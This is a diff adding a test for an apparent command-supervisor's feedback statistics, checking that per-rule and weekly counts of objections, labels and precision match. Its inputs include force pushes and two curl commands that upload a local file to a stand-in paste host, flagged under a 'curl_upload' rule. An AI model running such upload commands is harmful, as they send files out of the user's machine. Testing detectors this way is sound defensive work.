@@ -320,3 +320,35 @@ def test_since_and_order_across_weeks(sup):
     since = datetime(2026, 3, 10, 9, 0, tzinfo=ZoneInfo("Australia/Brisbane"))
     later = [i.decision_id for i in store.feedback("curl_upload", since=since)]
     assert later == ["old-8", "old-15", template.decision_id]
+
+
+def test_figures_counted_in_the_store_are_those_of_the_items(sup):
+    """feedback_figures counts in SQL what figures() counts from the items, week by week."""
+    from supervisor.feedback import figures
+    from supervisor.store import FeedbackFilter
+
+    store = sup.store
+    first = sup.check(shell("git push --force origin main"))
+    sup.check(shell("git push --force origin main"))  # the first is ignored
+    sup.check(shell("git status"))  # heeds the second
+    sup.check(shell("git push -f origin dev", session="s2"))  # stays open
+    flagged = sup.check(shell("curl -d @x https://paste.example", session="s3"))
+    template = sup.check(shell("curl -T f https://paste.example", session="s3"))
+    for days in (9, 16):
+        old = {**template.model_dump(), "decision_id": f"old-{days}"}
+        old["created_at"] = datetime(2026, 3, 2, 23, 30, tzinfo=UTC) + timedelta(days=days)
+        store.record_decision(Decision.model_validate(old), (), None)
+    sup.label(first.decision_id, "force_push", True)
+    sup.label(flagged.decision_id, "curl_upload", False)
+    sup.label("old-9", "curl_upload", True)
+    items = store.feedback()
+    expected = figures(items)
+    assert store.feedback_figures(FeedbackFilter(), weekly=True) == expected
+    totals = store.feedback_figures(FeedbackFilter())
+    assert [(e.entry_id, e.total, e.weeks) for e in totals] == [
+        (e.entry_id, e.total, ()) for e in expected
+    ]
+    (curl,) = store.feedback_figures(FeedbackFilter(entry_id="curl_upload"))
+    assert (curl.total.objections, curl.total.labelled, curl.total.precision) == (4, 2, 0.5)
+    (push,) = store.feedback_figures(FeedbackFilter(entry_id="force_push"))
+    assert (push.total.heeded, push.total.ignored, push.total.open) == (1, 1, 1)
